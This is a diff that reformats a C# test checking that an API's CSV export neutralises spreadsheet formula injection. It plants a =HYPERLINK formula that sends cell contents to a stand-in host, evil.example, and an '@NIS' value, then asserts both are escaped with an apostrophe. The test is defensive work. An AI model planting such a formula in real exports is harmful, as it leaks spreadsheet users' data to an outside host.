@@ -51,25 +51,40 @@ public class CsvFormulaExportTests(ApiFixture fixture) : IClassFixture<ApiFixtur
     {
         var claim = DemoIds.For("claim", "nis-1500-vladivostok");
         const string Formula = "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Click for the source\")";
-        await fixture.Database.ExecuteAsync("UPDATE claims SET summary = @summary WHERE id = @id", ("summary", Formula), ("id", claim));
         await fixture.Database.ExecuteAsync(
-            "UPDATE actors SET name = '@NIS' WHERE id = (SELECT asserted_by_id FROM claims WHERE id = @id)", ("id", claim));
+            "UPDATE claims SET summary = @summary WHERE id = @id",
+            ("summary", Formula),
+            ("id", claim)
+        );
+        await fixture.Database.ExecuteAsync(
+            "UPDATE actors SET name = '@NIS' WHERE id = (SELECT asserted_by_id FROM claims WHERE id = @id)",
+            ("id", claim)
+        );
         var analyst = await fixture.ClientAsync(Roles.Analyst);
 
         using var response = await analyst.GetAsync("/api/v1/export/claims.csv");
 
         response.StatusCode.Should().Be(HttpStatusCode.OK);
         var text = await response.Content.ReadAsStringAsync();
-        text.Should().Contain("\"'=HYPERLINK(\"\"https://evil.example/?leak=\"\"&A1,\"\"Click for the source\"\")\"")
-            .And.NotContain(",=HYPERLINK").And.NotContain("\"=HYPERLINK");
+        text.Should()
+            .Contain("\"'=HYPERLINK(\"\"https://evil.example/?leak=\"\"&A1,\"\"Click for the source\"\")\"")
+            .And.NotContain(",=HYPERLINK")
+            .And.NotContain("\"=HYPERLINK");
         using var reader = new CsvReader(new StringReader(text), CultureInfo.InvariantCulture);
-        var row = reader.GetRecords<dynamic>().Cast<IDictionary<string, object>>().Single(r => (string)r["Id"] == claim.ToString());
+        var row = reader
+            .GetRecords<dynamic>()
+            .Cast<IDictionary<string, object>>()
+            .Single(r => (string)r["Id"] == claim.ToString());
         ((string)row["Summary"]).Should().Be("'" + Formula);
         ((string)row["Actor"]).Should().Be("'@NIS");
-        ((string)row["StatedOnDate"]).Should().MatchRegex("^[0-9]{4}-[0-9]{2}-[0-9]{2}$", "dates are written as they are");
+        ((string)row["StatedOnDate"])
+            .Should()
+            .MatchRegex("^[0-9]{4}-[0-9]{2}-[0-9]{2}$", "dates are written as they are");
 
         using var json = await analyst.GetAsync("/api/v1/export/claims.json");
-        (await json.Content.ReadAsStringAsync()).Should().Contain("\"summary\":\"=HYPERLINK(", "only CSV, which spreadsheets open, is neutralised");
+        (await json.Content.ReadAsStringAsync())
+            .Should()
+            .Contain("\"summary\":\"=HYPERLINK(", "only CSV, which spreadsheets open, is neutralised");
     }
 
     private static string Write(Row row)
